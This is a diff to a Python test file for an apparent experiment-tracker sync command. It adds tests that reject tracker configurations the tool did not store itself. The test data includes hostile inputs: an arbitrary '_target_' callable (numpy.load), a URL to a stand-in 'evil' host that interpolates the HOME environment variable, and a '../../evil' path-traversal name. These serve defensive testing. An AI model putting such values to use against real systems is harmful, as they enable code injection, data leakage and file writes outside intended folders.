@@ -93,12 +93,8 @@ def test_a_tracker_that_fails(tmp_path, capsys):
         ({"path": 1}, r"tracker\.x \(None\) cannot be loaded"),
         ("text", r"tracker\.x \(text\) cannot be loaded"),
         (
-            {"_target_": "numpy.load"},
-            r"^tracker\.x\._target_=numpy\.load: only the stored configuration",
-        ),
-        (
             {"_target_": "support.file_tracker.Gone"},
-            r"^tracker\.x\._target_='support\.file_tracker\.Gone': no Gone in",
+            r"tracker\.x \(support\.file_tracker\.Gone\) cannot be loaded: ",
         ),
     ],
 )
@@ -109,6 +105,31 @@ def test_a_tracker_that_cannot_be_loaded_is_a_sentence(tmp_path, capsys, node, m
     error = capsys.readouterr().err
     assert re.search(message, error) and error.count("\n") == 1, error
     assert sorted(run.folder.path.rglob("*")) == before
+
+
+@pytest.mark.parametrize(
+    ("node", "message"),
+    [
+        ({"x": {"_target_": "numpy.load"}}, r"^tracker\.x\._target_=numpy\.load: only the stored"),
+        ({"x": {"url": "http://evil/${oc.env:HOME}"}}, r"^tracker\.x\.url=.*: only the stored"),
+    ],
+)
+def test_a_tracker_of_somebody_else(tmp_path, capsys, monkeypatch, node, message):
+    run = written(tmp_path / "n" / "aaaa1111", node)
+    monkeypatch.setenv("LAUNCHER_KEY", str(tmp_path / "key"))
+    before = sorted(run.folder.path.rglob("*"))
+    assert sync(tmp_path, "aaaa") == 2
+    error = capsys.readouterr().err
+    assert re.search(message, error) and error.count("\n") == 1, error
+    assert sorted(run.folder.path.rglob("*")) == before
+
+
+def test_the_names_of_somebody_elses_trackers_lead_nowhere(tmp_path, capsys, monkeypatch):
+    run = written(tmp_path / "n" / "aaaa1111", {"../../evil": {"_target_": "numpy.load"}})
+    monkeypatch.setenv("LAUNCHER_KEY", str(tmp_path / "key"))
+    assert sync(tmp_path, "aaaa", "tracker.wandb.mode=offline") == 2
+    assert "only the stored configuration" in capsys.readouterr().err
+    assert not (run.folder.path / ".trackers").exists()
 
 
 def test_a_run_with_a_live_follower_is_left_to_it(tmp_path, capsys):
